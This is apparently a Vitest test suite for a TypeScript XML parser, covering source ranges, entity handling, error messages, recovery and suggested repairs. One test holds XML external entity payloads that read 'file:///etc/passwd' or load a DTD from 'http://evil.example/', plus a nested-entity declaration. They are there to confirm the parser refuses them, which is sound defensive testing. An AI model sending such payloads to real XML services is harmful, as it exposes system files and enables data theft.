import { describe, expect, it } from 'vitest';
import { applyEdits } from '../text';
import { parseXml } from './parse';
import type { XmlElement, XmlNode } from './tree';

/** A tree as text: elements by name and attributes; `!` marks those without an end tag, text is trimmed. */
function outline(nodes: readonly XmlNode[]): string {
  return nodes
    .map((node) => {
      if (node.kind === 'text') return node.value.trim() === '' ? '' : `"${node.value.trim()}"`;
      if (node.kind !== 'element') return `(${node.kind})`;
      const attributes = node.attributes.map(({ name, value }) => ` ${name}=${value}`).join('');
      const inner = outline(node.children);
      return `${node.name}${attributes}${node.selfClosing || node.endTagRange ? '' : '!'}${inner ? `[${inner}]` : ''}`;
    })
    .filter((part) => part !== '')
    .join(' ');
}

const errorsOf = (text: string): string[] => parseXml(text).errors.map(({ message }) => message);
const marked = (text: string): string[] =>
  parseXml(text).errors.map(({ range }) => text.slice(range.start, range.end));

function firstElement(text: string): XmlElement {
  const { root } = parseXml(text);
  if (!root) throw new Error('no element');
  return root;
}

describe('parseXml: places and values', () => {
  it('gives exact ranges', () => {
    const text = '<!-- c --><a one = "1" two=\'x&amp;y\'>text<b/></a>';
    const root = firstElement(text);
    const at = (range: { start: number; end: number }): string => text.slice(range.start, range.end);
    expect(at(root.range)).toBe(text.slice(10));
    expect(at(root.nameRange)).toBe('a');
    expect(at(root.startTagRange)).toBe('<a one = "1" two=\'x&amp;y\'>');
    expect(at(root.endTagRange!)).toBe('</a>');
    expect(
      root.attributes.map((each) => [at(each.nameRange), at(each.valueRange), at(each.range), each.quote]),
    ).toEqual([
      ['one', '1', 'one = "1"', '"'],
      ['two', 'x&amp;y', "two='x&amp;y'", "'"],
    ]);
    expect(root.children.map((child) => at(child.range))).toEqual(['text', '<b/>']);
  });

  it('counts in UTF-16 units', () => {
    const root = firstElement('<ä x="😀" y="1"/>');
    expect(root.attributes[1]!.valueRange).toEqual({ start: 13, end: 14 });
  });

  it('replaces references and normalises white space as a DOM does', () => {
    const root = firstElement('<a b="1\r\n2\t3&#10;4&lt;">x\r\ny\rz&#xe4;&amp;<![CDATA[<&amp;\r\n]]></a>');
    expect(root.attributes[0]!.value).toBe('1 2 3\n4<');
    expect(root.children.map((child) => (child.kind === 'text' ? child.value : ''))).toEqual([
      'x\ny\nzä&',
      '<&amp;\n',
    ]);
  });

  it('replaces entities that the DOCTYPE declares', () => {
    const root = firstElement('<!DOCTYPE a [<!ENTITY e "v&#228;">]><a b="&e;">&e;</a>');
    expect([root.attributes[0]!.value, outline(root.children)]).toEqual(['vä', '"vä"']);
  });

  it.each([
    ['an entity in another', '<!ENTITY x "long"><!ENTITY e "&x;&x;">', '&x;&x;'],
    ['one that is a file', '<!ENTITY e SYSTEM "file:///etc/passwd">', '&e;'],
    ['one that a file declares', '<!ENTITY % p SYSTEM "http://evil.example/"> %p;', '&e;'],
  ])('neither expands nor loads %s', (_, declarations, value) => {
    const { attributes, children } = firstElement(`<!DOCTYPE a [${declarations}]><a b="&e;">&e;</a>`);
    expect([attributes[0]!.value, outline(children)]).toEqual([value, `"${value}"`]);
  });
});

describe('parseXml: verdict', () => {
  it.each([
    ['<a/>'],
    ['\ufeff<a/>'],
    [' \n<a/>\n'],
    ['<?xml version="1.1"?><a/>'],
    ["<?xml version='1.0' encoding='utf-8' standalone='yes' ?><a/>"],
    ['<?xml version="1.0" encoding="UTF-8"standalone="no"?><a/>'],
    ['<a b="x > y"/>'],
    ['<p:a q:b="1"/>'],
    ['<a:/>'],
    ['<a></a >'],
    ['<a>\u007f]]&gt;</a>'],
    ['<!DOCTYPEa><a/>'],
    ['<!DOCTYPE a SYSTEM "x.dtd"><a>&any;</a>'],
    ['<a/>\0<what ever'],
    ['<a xmlns:p="" xmlns:p=""/>'],
    ['<a>'.repeat(257) + '</a>'.repeat(257)],
  ])('accepts %j', (text) => {
    expect(errorsOf(text)).toEqual([]);
  });

  it.each([
    ['', 'no element'],
    ['<!-- only -->', 'no element'],
    ['<a/><b/>', 'root element'],
    ['<a/>x', 'after </a>'],
    ['x<a/>', 'before the first element'],
    ['<a/><![CDATA[x]]>', 'after </a>'],
    ['<a>&nbsp;</a>', '&nbsp; is not defined'],
    ['<a>]]></a>', ']]>'],
    ['<a><!-- x -- y --></a>', 'Two hyphens'],
    ['<a>\u0001</a>', 'U+0001'],
    ['<a>\ud800</a>', 'U+D800'],
    ['<a>&#0;</a>', 'does not allow'],
    ['<a>&#x;</a>', 'not complete'],
    ['<a b="1" b="2"/>', 'repeated'],
    ['<a xmlns:p="x:1" xmlns:p="x:2"/>', 'repeated'],
    ['<a:b:1/>', 'is not allowed in a tag'],
    ['<?xml version="2.0"?><a/>', 'version'],
    ['<?xml encoding="UTF-8"?><a/>', 'no version'],
    ['<?xml version="1.0" standalone="yes" encoding="UTF-8"?><a/>', 'order'],
    ['<?xml version="1.0" encoding="nonsense"?><a/>', 'nonsense'],
    ['<?xml version="1.0" encoding="UTF-16"?><a/>', 'stored as UTF-8'],
    ['<a><?xml version="1.0"?></a>', 'at the very beginning'],
    ['<a><?XML x?></a>', 'at the very beginning'],
    ['<a><? x?></a>', 'needs a name'],
    ['<a/><!DOCTYPE a>', 'only once'],
    ['<!DOCTYPE a [<!ENTITY e "&e;">]><a>&e;</a>', 'declaration of &e; is not valid'],
    ['<!DOCTYPE a [<!ENTITY e "<b>">]><a>&e;</a>', 'declaration of &e; is not valid'],
    ['<!DOCTYPE a [ x ]><a/>', 'not a declaration'],
    ['<>', 'no name'],
    ['<a>'.repeat(258) + '</a>'.repeat(258), '257'],
  ])('refuses %j with one error', (text, message) => {
    expect(errorsOf(text)).toEqual([expect.stringContaining(message)]);
  });

  it('takes a text stored as UTF-16 at its word', () => {
    const text = '<?xml version="1.0" encoding="utf-16"?><a/>';
    expect(parseXml(text, 'utf-16').errors).toEqual([]);
    expect(parseXml(text.replace('utf-16', 'iso-8859-1'), 'utf-16').errors).toHaveLength(1);
  });
});

describe('parseXml: recovery', () => {
  it.each([
    [
      'a value at the end of the file',
      '<integrations>\n  <integration name="x">\n    <resources>\n      <resource name="Magento_Sa',
      'integrations![integration name=x![resources![resource name=Magento_Sa!]]]',
      ['resources', '"Magento_Sa'],
    ],
    [
      'a value before a sibling',
      '<r>\n  <resource name="Magento_Sa\n  <resource name="b"/>\n  <resource name="c"/>\n</r>',
      'r[resource name=Magento_Sa! resource name=b resource name=c]',
      ['"Magento_Sa'],
    ],
    [
      'an attribute name',
      '<r>\n  <resource na\n  <resource name="b"/>\n</r>',
      'r[resource na=! resource name=b]',
      ['na'],
    ],
    ['an equals sign', '<r>\n  <a name=\n  <b c="1"/>\n</r>', 'r[a name=! b c=1]', ['name=']],
    ['<', '<r>\n  <\n  <b/>\n</r>', 'r[! b]', ['<']],
    ['< at the end', '<r>\n  <', 'r![!]', ['r', '<']],
    ['an element name', '<r>\n  <reso\n  <b/>\n</r>', 'r[reso! b]', ['<reso']],
    ['</', '<r>\n  <a>x</\n  <b/>\n</r>', 'r[a["x"] b]', ['']],
    ['an end tag name', '<r>\n  <email>x</ema\n  <b/>\n</r>', 'r[email["x"] b]', ['ema']],
    [
      'a start tag without >',
      '<r>\n  <i name="x"\n    <email>e</email>\n  </i>\n  <i name="y"/>\n</r>',
      'r[i name=x[email["e"]] i name=y]',
      ['<i name="x"'],
    ],
    ['an element that is not closed', '<r>\n  <a b="1">\n  <a b="2"/>\n</r>', 'r[a b=1! a b=2]', ['a']],
    [
      'nested elements of one name',
      '<acl>\n  <r id="A">\n    <r id="B">\n    <r id="C"/>\n  </r>\n  <r id="D"/>\n</acl>',
      'acl[r id=A[r id=B! r id=C] r id=D]',
      ['r'],
    ],
    [
      'an end tag too many',
      '<acl>\n  <r id="A">\n    <r id="B"/>\n    </r>\n  </r>\n  <r id="D"/>\n</acl>',
      'acl[r id=A[r id=B] r id=D]',
      ['</r>'],
    ],
    ['a comment that is not closed', '<r>\n  <!-- foo\n  <b/>\n</r>', 'r[(comment) b]', ['<!-- foo']],
    ['a stray <', '<r>1 < 2 <b/></r>', 'r["1 < 2" b]', ['<']],
    ['crossing tags', '<a><b>x</a></b>', 'a[b!["x"]]', ['b']],
    ['a stray quote', '<a b="c""><d/></a>', 'a b=c[d]', ['"']],
  ])('repairs %s', (_, text, expected, places) => {
    expect(outline(parseXml(text).children)).toBe(expected);
    expect(marked(text)).toEqual(places);
  });

  it('gives children their parent', () => {
    const root = firstElement('<r>\n  <a name="x\n  <b/>\n</r>');
    for (const child of root.children) if (child.kind !== 'declaration') expect(child.parent).toBe(root);
  });

  it('does not take long over damage, however much of it there is', () => {
    for (const piece of [
      '<',
      '&',
      '<a ',
      '<a>\n',
      '<a b="',
      "<a b='x ",
      '<!-- ',
      '</a',
      '<a b="x>\n<c>',
      '<![CDATA[',
    ]) {
      // A quadratic parser would not be done before the test's time is up.
      expect(parseXml(piece.repeat(20_000)).errors.length, piece).toBeGreaterThan(0);
    }
  });
});

describe('parseXml: repairs', () => {
  it.each([
    ['<a>x & y</a>', '<a>x &amp; y</a>'],
    ['<a b="?x=1&y=2"/>', '<a b="?x=1&amp;y=2"/>'],
    ['<a b="1 < 2"/>', '<a b="1 &lt; 2"/>'],
    ['<a b="1"c="2"/>', '<a b="1" c="2"/>'],
    ['<a b="1" c="2" b="1"/>', '<a b="1" c="2"/>'],
    ['<a b=1/>', '<a b="1"/>'],
    ['<a b"1"/>', '<a b="1"/>'],
    ['<a b="x/>\n', '<a b="x"/>\n'],
    ['<r>\n<a b="x/>\n<a b="y"/>\n</r>', '<r>\n<a b="x"/>\n<a b="y"/>\n</r>'],
    ['<r url="/V1/x method="GET"/>', '<r url="/V1/x" method="GET"/>'],
    ['<r>\n  <a b="1"\n    title="x\n    c="2"/>\n</r>', '<r>\n  <a b="1"\n    title="x"\n    c="2"/>\n</r>'],
    ['<r>\n  <email>x</emial>\n</r>', '<r>\n  <email>x</email>\n</r>'],
    ['<r>\n  <email>x\n  <b/>\n</r>', '<r>\n  <email>x</email>\n  <b/>\n</r>'],
    ['<r>\n  <a>x</\n</r>', '<r>\n  <a>x</a>\n</r>'],
    ['<r>\n  <a>x</a\n</r>', '<r>\n  <a>x</a>\n</r>'],
    ['<r>\n  <i name="x"\n    <e/>\n  </i>\n</r>', '<r>\n  <i name="x">\n    <e/>\n  </i>\n</r>'],
    ['<a>\n  <b>\n    <c/>\n', '<a>\n  <b>\n    <c/>\n  </b>\n</a>\n'],
    ['<a>]]></a>', '<a>]]&gt;</a>'],
    ['\n<?xml version="1.0"?><a/>', '<?xml version="1.0"?><a/>'],
    ['<?xml version="1.0" encoding="utf-16"?><a/>', '<?xml version="1.0" encoding="UTF-8"?><a/>'],
    ['<a / >', '<a />'],
    ['<a/', '<a/>'],
    ['<a></a b>', '<a></a>'],
  ])('turns %j into %j', (text, repaired) => {
    const { errors } = parseXml(text);
    expect(errors).toHaveLength(1);
    expect(applyEdits(text, errors[0]!.fix!.edits)).toBe(repaired);
    expect(errorsOf(repaired)).toEqual([]);
  });

  it.each([['<a b="1" b="2"/>'], ['<a>&nbsp;</a>'], ['<a/><b/>'], ['<r><a b="</r>'], ['<a>&amp x</a>']])(
    'offers no repair where it would be a guess: %j',
    (text) => {
      expect(parseXml(text).errors.map(({ fix }) => fix)).toEqual([undefined]);
    },
  );
});
